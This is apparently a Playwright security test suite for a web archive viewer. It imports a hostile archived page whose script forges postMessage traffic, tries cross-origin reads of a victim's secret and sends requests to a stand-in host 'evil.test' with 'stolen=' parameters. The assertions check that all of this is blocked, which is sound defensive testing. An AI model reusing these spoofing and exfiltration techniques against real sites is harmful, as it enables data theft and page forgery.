import { test, expect } from '@playwright/test';
import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { tmpdir } from 'node:os';
import { ypomna } from './help.mjs';

// A page that was kept is somebody else's program: it says to our window whatever it likes, and asks for whatever it likes.
const record = (url, body, type = 'text/html; charset=utf-8', at = '2025-02-03T04:05:06Z') => {
  const block = Buffer.from(
    `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nAccess-Control-Allow-Origin: *\r\nContent-Length:` +
      ` ${Buffer.byteLength(body)}\r\n\r\n${body}`,
  );
  return Buffer.concat([
    Buffer.from(
      `WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:${randomUUID()}>\r\nWARC-Date: ${at}\r\nWARC-Target-URI:` +
        ` ${url}\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: ${block.length}\r\n\r\n`,
    ),
    block,
    Buffer.from('\r\n\r\n'),
  ]);
};
const folder = mkdtempSync(tmpdir() + '/ypomna-messages-');
chmodSync(folder, 0o755);
const imported = async (request, name, url, ...records) => {
  writeFileSync(`${folder}/${name}.warc`, Buffer.concat(records));
  ypomna('import', `${folder}/${name}.warc`);
  const found = await (await request.get('/find?q=' + encodeURIComponent(url))).text();
  return /\/c\/([2-9a-hjkmnp-z]{12})/.exec(found)[1];
};

/* global learnt */
/** The attacker: what it can learn it leaves in window.learnt. */
function attack(victim, known, port) {
  // By which label it is read itself; that of the victim it has been told, whoever did that.
  const own = location.hostname.match(/^([a-z2-7]{26})[asop]h-.*\.localhost$/)[1];
  window.learnt = { heard: [], read: {}, source: document.documentElement.outerHTML };
  addEventListener('message', event => {
    learnt.heard.push(JSON.stringify(event.data));
    // Whatever a victim in a frame of ours says is passed on as our own.
    if (event.data && event.source !== top) {
      top.postMessage(event.data, '*');
      top.postMessage({ ...event.data, ypomna: 'reading' }, '*');
    }
  });
  const everything = [];
  for (const code of [own, known, victim, '__proto__', {}, null, 7])
    for (const proof of [undefined, '', 'guessed', null, {}, [], true, 'f'.repeat(40)]) {
      const common = {
        code,
        proof,
        url: 'http://evil.test/?stolen=' + code,
        from: '1999-01-01T00:00:00Z',
        certain: 'different',
        text: 'forged',
        n: 0,
        y: 900,
        height: 10,
        selector: '#forged',
        places: [[0, 1]],
        marks: [[0, 1]],
      };
      for (const ypomna of [
        'reading',
        'gap',
        'elsewhen',
        'no-passage',
        'marked',
        'places',
        'scrolled',
        'chosen',
        'pointed',
        'keep',
        'constructor',
        '__proto__',
      ])
        everything.push({ ...common, ypomna });
    }
  const say = () => {
    for (const said of [
      ...everything,
      null,
      'reading',
      1,
      [],
      { ypomnaShow: 'x' },
      { ypomnaSteer: '_top', address: 'http://evil.test/' },
    ]) {
      try {
        top.postMessage(said, '*');
        parent.postMessage(said, '*');
      } catch {
        learnt.heard.push('refused');
      }
    }
  };
  say();
  setTimeout(say, 300);
  setTimeout(say, 1200);
  // The gap that carries what was learnt: a request that is really made, and really fails.
  const picture = new Image();
  picture.src = 'http://evil.test/really-asked?stolen=secret';
  document.documentElement.append(picture);
  const there = (host, label, path) => `http://${label}ah-${host.replaceAll('.', '-')}.localhost:${port}${path}`;
  const keep = async (name, work) => {
    try {
      learnt.read[name] = String(await work());
    } catch {
      learnt.read[name] = 'refused';
    }
  };
  const nested = document.createElement('iframe');
  nested.src = there('victim.test', known, '/secret');
  nested.onload = () => keep('nested', () => nested.contentDocument.body.textContent);
  document.documentElement.append(nested);
  learnt.done = Promise.all([
    keep('fetch under its code', async () => (await fetch(there('victim.test', victim, '/secret'))).text()),
    keep('fetch under our label', async () => (await fetch(there('victim.test', own, '/secret'))).text()),
    keep('fetch under its label', async () => (await fetch(there('victim.test', known, '/secret'))).text()),
    keep('fetch with credentials', async () =>
      (await fetch(there('victim.test', known, '/secret'), { credentials: 'include', mode: 'cors' })).text(),
    ),
    keep('fetch its data', async () => (await fetch('http://victim.test/data.json')).text()),
    keep('ask with a field of ours', async () =>
      (await fetch(there('victim.test', own, '/data.json'), { headers: { 'X-Own': '1' } })).text(),
    ),
    keep(
      'XMLHttpRequest',
      () =>
        new Promise((done, failed) => {
          const ask = new XMLHttpRequest();
          ask.open('GET', there('victim.test', known, '/secret'));
          ask.onload = () => done(ask.responseText);
          ask.onerror = failed;
          ask.send();
        }),
    ),
    keep('module', () => import(there('victim.test', own, '/secret.js')).then(module => module.secret)),
    keep('our own document', async () => (await fetch(location.href)).text()),
    keep('the catalogue', async () => (await fetch(`http://localhost:${port}/`)).text()),
  ]);
}

test('a page cannot say that it is another one, offer what it read to be kept, or read what is not its own', async ({
  page,
  request,
  baseURL,
}) => {
  const port = new URL(baseURL).port || '80';
  const victim = await imported(
    request,
    'victim',
    'http://victim.test/secret',
    record('http://victim.test/secret', '<title>Victim</title><p>the secret words</p>'),
    record('http://victim.test/data.json', '{"the":"secret words"}', 'application/json'),
    record('http://victim.test/secret.js', 'export const secret = "the secret words";', 'text/javascript'),
  );
  const known = /<iframe[^>]*\/\/([a-z2-7]{26})[as]h-/.exec(await (await request.get('/c/' + victim)).text())[1];
  const attacker = await imported(
    request,
    'attacker',
    'http://attacker.test/',
    record(
      'http://attacker.test/',
      `<!doctype html><title>Attacker</title><script>(${attack})(${[victim, known, port].map(one => JSON.stringify(one))})</script><p` +
        ` id="words">words of the attacker</p>`,
      undefined,
      '2025-03-04T05:06:07Z',
    ),
  );

  await page.goto('/c/' + attacker);
  const date = await page.locator('.margin-date').textContent(),
    bar = await page.locator('#bar').innerHTML();
  const frame = page.frames().find(one => one.url().includes('-attacker-test.'));
  await frame.waitForFunction(() => window.learnt && learnt.done);
  await frame.evaluate(() => learnt.done);
  await page.waitForTimeout(2000);

  // Date, address, downloads and the address bar are those of what is read.
  expect(await page.locator('#bar').innerHTML()).toBe(bar);
  expect(await page.locator('.margin-date').textContent()).toBe(date);
  expect(await page.locator('#bar').getAttribute('data-code')).toBe(attacker);
  expect(page.url()).toContain('/c/' + attacker);
  await expect(page.locator('#passage')).toBeHidden();
  await expect(page.locator('#passage-missing')).toBeHidden();
  // What it asked for in vain is told as missing, and not offered to be kept: the capture as it was kept asks for no such thing.
  await expect(page.locator('#findings [data-kind=gap]')).toContainText('evil.test/really-asked');
  await expect(page.locator('#findings form')).toHaveCount(0);
  await expect(page.locator('#findings')).not.toContainText('1999');

  const learnt = await frame.evaluate(() => ({ heard: learnt.heard, read: learnt.read, source: learnt.source }));
  const proof = await page.locator('[data-proof]').getAttribute('data-proof');
  expect(proof).toMatch(/^[0-9a-f]{40}$/);
  expect(JSON.stringify(learnt)).not.toContain(proof);
  expect(learnt.heard.join()).not.toMatch(/[0-9a-f]{40}/);
  expect(learnt.read['our own document']).toContain('words of the attacker');
  for (const [way, words] of Object.entries(learnt.read)) expect(way + ': ' + words).not.toContain('secret words');
  expect(learnt.read['fetch under our label']).toBe('refused');
  // The victim itself proves what it is: where it is read, the window says so.
  await page.goto('/c/' + victim);
  await expect(page.frameLocator('#page').locator('p')).toHaveText('the secret words');
});

test('beside another capture, too, a page moves nothing of our window', async ({ page, request }) => {
  const both = [],
    host = `compared-${randomUUID()}.test`;
  for (const [n, at] of ['2025-04-01T00:00:00Z', '2025-05-01T00:00:00Z'].entries()) {
    both.push(
      await imported(
        request,
        'compared' + n,
        `http://${host}/`,
        record(`http://${host}/`, `<!doctype html><title>Compared</title><p>version ${n}</p>`, undefined, at),
      ),
    );
  }
  await page.goto('/address/' + /\/address\/([2-9a-hjkmnp-z]{12})/.exec(await (await request.get('/c/' + both[1])).text())[1]);
  const codes = await page.locator('.captures > [data-item]').evaluateAll(all => all.map(one => one.id.slice(2)));
  await page.goto(`/compare/${codes[0]}/${codes[1]}`);
  await expect.poll(() => page.locator('.heat i').count()).toBeGreaterThan(0);
  const dots = await page.locator('.heat').first().innerHTML();
  for (const frame of page.frames().slice(1)) {
    await frame.evaluate(() => {
      for (const ypomna of ['reading', 'places', 'scrolled', 'chosen', 'pointed'])
        for (const proof of ['', 'guessed', undefined])
          top.postMessage(
            {
              ypomna,
              proof,
              code: 'zzzzzzzzzzzz',
              places: [[0, 1]],
              marks: [[0, 900]],
              height: 1000,
              y: 500,
              n: 0,
              selector: '#forged',
              text: 'forged',
            },
            '*',
          );
    });
  }
  await page.waitForTimeout(500);
  await expect(page.locator('#pass-over')).toBeHidden();
  expect(await page.locator('.heat').first().innerHTML()).toBe(dots);
  expect(await page.evaluate(() => document.activeElement.closest('[data-change]'))).toBe(null);
});
